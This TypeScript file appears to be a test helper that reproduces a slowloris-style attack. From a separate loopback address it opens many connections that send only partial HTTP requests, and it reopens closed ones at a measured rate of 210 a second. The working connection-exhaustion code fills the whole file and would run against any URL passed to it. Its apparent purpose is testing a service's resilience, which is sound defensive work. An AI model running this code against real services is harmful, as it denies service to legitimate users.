// How does somebody hold a service with half-sent requests? Many connections of one IP address, none of which ends its request.

import { once } from 'node:events'
import { connect, type Socket } from 'node:net'

/** Another loopback address than that of the other clients. */
const attacker = '127.0.0.66'
const halves = [
  'POST /v1/telecom/sim-swap-check HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{"phone',
  'POST /auth/v1/validate/token HTTP/1.1\r\nhost: x\r\ncontent-',
  'GET /',
]

/** Opens the connections, and opens a new one for each that the service closes, until `end`. */
export async function sendHalves(url: string, count: number): Promise<{ end(): void }> {
  const { hostname, port } = new URL(url)
  const sockets = new Set<Socket>()
  let opened = 0
  let hasEnded = false
  function open(): Socket {
    const socket = connect({ host: hostname, port: Number(port), localAddress: attacker })
    sockets.add(socket)
    socket.write(halves[opened++ % halves.length]!)
    socket.on('error', () => undefined)
    socket.resume().on('close', () => {
      sockets.delete(socket)
      // At the pace of the attack that was measured: 210 a second.
      if (!hasEnded) setTimeout(() => hasEnded || open(), (1000 * sockets.size) / 210).unref()
    })
    return socket
  }
  while (opened < count) await Promise.all(Array.from({ length: 50 }, () => once(open(), 'connect')))
  return {
    end() {
      hasEnded = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
